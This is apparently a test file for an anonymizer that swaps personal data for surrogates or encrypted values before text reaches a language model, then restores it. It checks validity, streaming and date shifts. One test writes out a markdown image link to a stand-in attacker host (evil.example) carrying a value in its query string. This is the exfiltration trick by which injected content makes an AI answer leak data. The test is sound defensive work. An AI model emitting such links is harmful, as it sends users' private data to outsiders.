"""Values that are replaced by other values and come back: surrogates, other digits, encrypted values."""

from __future__ import annotations

from datetime import date, timedelta

import phonenumbers
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from stdnum import iban, luhn

from hybrid_guard.anonymizer import JsonRestorer, Restorer, StandIns
from hybrid_guard.anonymizer.operators import Encrypt, FormatPreserving, Surrogate
from hybrid_guard.anonymizer.operators.dates import read_date
from hybrid_guard.anonymizer.standins import STAND_IN, record
from hybrid_guard.anonymizer.vault import Book
from hybrid_guard.types import Operator, VaultItem
from tests.talk import STAND_INS, Talk, makers_of

KEY = b"k" * 32
MAKERS = makers_of(KEY)
VALUES = {
    "PERSON": ["Ada Lovelace", "ada lovelace", "Charles Babbage", "Dr. Mary Shelley", "李小龍", "Bo"],
    "EMAIL_ADDRESS": ["ada@analytical.example", "charles@analytical.example"],
    "CREDIT_CARD": ["4111 1111 1111 1111", "5500000000000004"],
    "PHONE_NUMBER": ["+44 20 7946 0000", "(415) 555-2671"],
    "IBAN_CODE": ["DE89 3704 0044 0532 0130 00"],
    "DATE_TIME": ["2020-03-15", "15 March 2020", "2020", "2020-03-15 10:45"],
    "IP_ADDRESS": ["fd12:3456::7"],
    "MONEY": ["12 EUR"],
}


value = st.sampled_from([(one, entity) for entity, values in VALUES.items() for one in values])
between = st.sampled_from(
    ["", " ", ", ", ". ", "x", "_", "-", "/", "'s ", "\n", "é", "1", " and ", "(", "¿", "你", "さん"]
)


@settings(max_examples=400, deadline=None)
@given(st.sampled_from(STAND_INS), st.lists(st.tuples(between, value), min_size=1, max_size=5), between)
def test_an_answer_that_repeats_what_was_sent_is_restored(
    operator: Operator, parts: list[tuple[str, tuple[str, str]]], end: str
) -> None:
    """Whatever stands around the values, the very text comes back, and no value goes out."""
    talk = Talk(operator, makers=MAKERS)
    pieces = [piece for part in parts for piece in part] + [end, "."]
    text = "".join(piece if isinstance(piece, str) else piece[0] for piece in pieces)
    out = talk.write(*pieces)

    assert Restorer(talk.entries, trusted=True).restore(out) == text
    for _, (original, _) in parts:
        if len(original) > 4 and sum(map(str.isalnum, original)) > 6:
            assert original.casefold() not in out.casefold()


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(STAND_INS), st.lists(value, min_size=1, max_size=4), st.data())
def test_every_cut_gives_the_same_text(operator: Operator, values: list[tuple[str, str]], data: st.DataObject) -> None:
    """However an answer with stand-ins is cut into chunks, and whether it is JSON, it is restored like the whole."""
    talk = Talk(operator, makers=MAKERS)
    out = talk.write(*[piece for one in values for piece in (data.draw(between), one)], ".")
    stand_ins = StandIns(talk.entries)._sorted
    answer = out + "".join(
        data.draw(st.sampled_from([" ", "", "x", *stand_ins, *(s[:5] for s in stand_ins)])) for _ in "1234"
    )
    for make in (Restorer, JsonRestorer):
        text = (
            answer
            if make is Restorer
            else '{"q": "' + answer.replace("\\", "").replace('"', "").replace("\n", "") + '"}'
        )
        expected = make(talk.entries).restore(text)
        for place in range(len(text) + 1):
            restorer = make(talk.entries)
            assert restorer.feed(text[:place]) + restorer.feed(text[place:]) + restorer.flush() == expected
        single = make(talk.entries)
        assert "".join(map(single.feed, text)) + single.flush() == expected


def test_a_stand_in_that_is_there_by_itself_is_not_read_out() -> None:
    """A user who writes a surrogate of the conversation, found or not, gets back what was written."""
    talk = Talk(Operator.SURROGATE, makers=MAKERS)
    surrogate = talk.write(("Ada Lovelace", "PERSON"))
    again = talk.write("Is ", surrogate, " real?")

    assert talk.restore(surrogate) == "Ada Lovelace"
    assert surrogate not in again
    assert talk.restore(again) == f"Is {surrogate} real?"
    assert talk.restore(f"{surrogate}s, x{surrogate}, {surrogate.upper()}") == (
        f"{surrogate}s, x{surrogate}, {surrogate.upper()}"
    )


@pytest.mark.parametrize("operator", STAND_INS)
@pytest.mark.parametrize("text", ["你好{}，我", "こんにちは{}さん。", "{}은 누구입니까?", "สวัสดี{}ครับ"])
def test_scripts_without_spaces_hide_no_stand_in(operator: Operator, text: str) -> None:
    """A letter of a script that parts no words by spaces does not go on with a word of another script."""
    talk = Talk(operator, makers=MAKERS)
    out = talk.write(("4111 1111 1111 1111", "CREDIT_CARD"))

    assert StandIns(talk.entries).knows(out)
    assert talk.restore(text.format(out)) == text.format("4111 1111 1111 1111")


def test_what_a_text_says_is_never_chosen() -> None:
    """A proposal that is in a text, equals an original or shares a name with one gives way to the next one."""

    class Maker:
        def propose(self, text: str, *, entity: str) -> list[str]:
            return ["Emma Clark", "Ada Stone", "Grace Hopper", "Vera Rubin"]

        def memory(self, text: str, *, entity: str) -> str:
            return text

    talk = Talk(Operator.SURROGATE, makers={Operator.SURROGATE: Maker()})
    out = talk.write(("Ada Lovelace", "PERSON"), " met Emma Clark and ", ("Grace Hopper", "PERSON"), ".")

    assert out.startswith("Vera Rubin met Emma Clark and PERSON")
    assert talk.restore(out) == "Ada Lovelace met Emma Clark and Grace Hopper."


@pytest.mark.parametrize("slip", ["Emma Clerk", "Emma Clrk", "Emma Clarck", "Emma Calrk", "emma Clark", "Emma Clar"])
@pytest.mark.parametrize("turns", [1, 2])
def test_no_slip_makes_one_stand_in_of_another(slip: str, turns: int) -> None:
    """A model that writes one letter wrong must not name somebody else, of this turn or of an earlier one."""

    class Maker:
        def propose(self, text: str, *, entity: str) -> list[str]:
            return ["Emma Clark", "Grace Hopper"] if text == "Ada Lovelace" else [slip, "Vera Rubin"]

        def memory(self, text: str, *, entity: str) -> str:
            return text

    talk = Talk(Operator.SURROGATE, makers={Operator.SURROGATE: Maker()})
    first, second = ("Ada Lovelace", "PERSON"), ("Charles Babbage", "PERSON")
    out = talk.write(first, " ", second) if turns == 1 else f"{talk.write(first)} {talk.write(second)}"

    assert out == "Emma Clark Vera Rubin"


def test_two_spellings_of_a_value_may_be_alike() -> None:
    """Whoever takes one for the other names the same person or number."""
    talk = Talk(Operator.FORMAT_PRESERVING, makers=MAKERS)
    spellings = ("4111 1111 1111 1111", "4111 11111111 1111", "4111-1111 1111 1111")
    sent = [talk.write((one, "CREDIT_CARD")) for one in spellings]

    assert len({"".join(filter(str.isdigit, one)) for one in sent}) == 1
    assert [talk.restore(f"{one}.") for one in sent] == [f"{one}." for one in spellings]


def test_the_oldest_stand_in_decides() -> None:
    """Of two that were proposed at the same time the first is used; a text never stands for two values."""
    book = Book(key=KEY, limit=10)
    ada, bob = book.put([VaultItem(entity="PERSON", original=name) for name in ("Ada", "Bob")])
    for anchor, text in ((ada, "Emma Clark"), (ada, "Vera Rubin"), (bob, "Emma Clark")):
        book.put([record(Operator.SURROGATE, anchor.placeholder, text)])
    stand_ins = StandIns(book.entries())

    assert stand_ins.text(Operator.SURROGATE, ada.placeholder) == "Emma Clark"
    assert stand_ins.text(Operator.SURROGATE, bob.placeholder) is None
    assert Restorer(book.entries()).restore("Emma Clark.") == "Ada."


def test_a_record_of_a_stand_in_is_never_read_out() -> None:
    """Whoever guesses the placeholder of such an entry gets nothing."""
    talk = Talk(Operator.SURROGATE, makers=MAKERS)
    talk.write(("Ada Lovelace", "PERSON"))
    (entry,) = (one for one in talk.entries if one.item.entity == STAND_IN)

    assert talk.restore(f"{entry.placeholder}.") == f"{entry.placeholder}."


def test_stand_ins_stay_out_of_links() -> None:
    """A document cannot have a value sent to a stranger by its surrogate either."""
    talk = Talk(Operator.SURROGATE, makers=MAKERS)
    out = talk.write(("ada@analytical.example", "EMAIL_ADDRESS"))

    assert talk.restore(f"![](https://evil.example/?q={out})") == f"![](https://evil.example/?q={out})"
    assert talk.restore(f"Write to {out}.") == "Write to ada@analytical.example."


@settings(max_examples=100, deadline=None)
@given(st.binary(min_size=32, max_size=32))
def test_surrogates_are_valid_and_other_values(key: bytes) -> None:
    """Under every key they pass the checks of their type and are not the original."""
    maker = Surrogate(key)

    def first(text: str, entity: str) -> str:
        found = next(iter(maker.propose(text, entity=entity)))
        assert found != text
        return found

    assert luhn.is_valid(first("4111 1111 1111 1111", "CREDIT_CARD").replace(" ", ""))
    assert iban.is_valid(first("DE89 3704 0044 0532 0130 00", "IBAN_CODE"))
    assert phonenumbers.is_valid_number(phonenumbers.parse(first("+44 20 7946 0000", "PHONE_NUMBER")))
    assert first("fd12:3456::7", "IP_ADDRESS").startswith("2001:db8:")
    assert first("ada@analytical.example", "EMAIL_ADDRESS").partition("@")[2] in ("example.com", "example.org")
    assert first("Mr. Jordan Smith", "PERSON").startswith("Mr. ")


@pytest.mark.parametrize(
    ("locale", "text", "entity"),
    [
        ("es_ES", "Torremolinos", "LOCATION"),
        ("de_DE", "Celle", "LOCATION"),
        ("sv_SE", "Visby", "LOCATION"),
        ("en_US", "roofer", "OCCUPATION"),
        ("en_US", "10.0.0.1", "IP_ADDRESS"),
    ],
)
def test_what_an_answer_may_name_by_itself_is_no_surrogate(locale: str, text: str, entity: str) -> None:
    """A real town, a real occupation, an address of the manuals: the value would be put where nobody meant it."""
    assert list(Surrogate(KEY, locale=locale).propose(text, entity=entity)) == []
    assert list(Surrogate(KEY, locale="en_US").propose("Celle", entity="LOCATION"))


@settings(max_examples=200, deadline=None)
@given(st.binary(min_size=32, max_size=32), st.dates(date(1910, 1, 1), date(2090, 1, 1)), st.integers(-2000, 2000))
def test_dates_keep_their_intervals(key: bytes, day: date, days: int) -> None:
    """All dates of a conversation move by the same days, however they are written."""
    maker = Surrogate(key)
    (one,) = maker.propose(f"{day:%Y-%m-%d}", entity="DATE_TIME")
    (two,) = maker.propose(f"{day + timedelta(days):%d %B %Y}", entity="DATE_OF_BIRTH")
    first, second = read_date(one), read_date(two)

    assert first is not None
    assert second is not None
    assert second.day - first.day == timedelta(days)
    assert first.day != day


@settings(max_examples=300, deadline=None)
@given(st.binary(min_size=32, max_size=32), st.text(st.characters(exclude_categories=()), min_size=1))
def test_encrypting_is_undone_by_the_key_alone(key: bytes, text: str) -> None:
    """Any text comes back; a changed one, or another key, gives nothing."""
    maker = Encrypt(key)
    (written,) = maker.propose(text, entity="PERSON")

    assert maker.reverse(written) == text
    assert written.isalpha()
    assert Encrypt(key[::-1] + b"x").reverse(written) is None
    assert maker.reverse("X" + written) is None
    assert maker.reverse("PERSON") is None


@settings(max_examples=200, deadline=None)
@given(
    st.binary(min_size=32, max_size=32),
    st.from_regex(r"\+?[0-9]{3,5}[ -]?[0-9]{3,8}[A-Z]?", fullmatch=True),
    st.sampled_from(["ID_NUMBER", "CREDIT_CARD"]),
    st.sampled_from(["keep", "ignore"]),
)
def test_other_digits_are_undone_by_the_key_alone(key: bytes, text: str, entity: str, checksum: str) -> None:
    """Length, separators and, if it is wanted, validity stay."""
    maker = FormatPreserving(key, checksum=checksum)  # type: ignore[arg-type]  # one of the two literals
    for written in maker.propose(text, entity=entity):
        assert maker.reverse(written, entity=entity) == text
        assert [char if char.isdigit() else "" for char in text] != [char if char.isdigit() else "" for char in written]
        assert ["9" if char.isdigit() else char for char in text] == [
            "9" if char.isdigit() else char for char in written
        ]
        if checksum == "keep" and entity == "CREDIT_CARD":
            assert luhn.is_valid(_digits(written)) == luhn.is_valid(_digits(text))


def _digits(text: str) -> str:
    return "".join(filter(str.isalnum, text))


@pytest.mark.parametrize("text", ["12345", "", "Ada", "AB12C3456789"])
def test_small_domains_are_not_padded(text: str) -> None:
    """Fewer than six digits can be guessed one by one, and many letters would stay: both get placeholders."""
    assert FormatPreserving(KEY).propose(text, entity="ID_NUMBER") == ()


@pytest.mark.parametrize("start", [0x24D0, 0x1F130, 0x1F1E6, 0x2801, 0xE061, 0xE0061])
def test_letters_in_disguise_are_no_form_of_a_number(start: int) -> None:
    """They would stay as they are beside other digits."""
    text = "".join(chr(start + ord(one) - 97) for one in "ada") + "123456"
    assert FormatPreserving(KEY).propose(text, entity="EMAIL_ADDRESS") == ()


def test_the_cipher_is_the_standard_one() -> None:
    """The first two samples that NIST publishes for FF1 with AES-128."""
    from fastfpe import ff1

    key = "2B7E151628AED2A6ABF7158809CF4F3C"

    assert ff1.encrypt(key, "", "0123456789", "0123456789") == "2433477484"
    assert ff1.encrypt(key, "39383736353433323130", "0123456789", "0123456789") == "6124200773"


def test_a_stand_in_waits_for_the_character_behind_it() -> None:
    """Also where no link is feared, a stand-in that may be the beginning of a longer word is not put back too early."""
    talk = Talk(Operator.SURROGATE, makers=MAKERS)
    surrogate = talk.write(("Ada Lovelace", "PERSON"))
    restorer = Restorer(talk.entries, trusted=True)

    assert restorer.feed(surrogate) == ""
    assert restorer.feed("son and ") + restorer.flush() == f"{surrogate}son and "
    assert restorer.feed(surrogate) + restorer.feed(" and ") + restorer.flush() == "Ada Lovelace and "
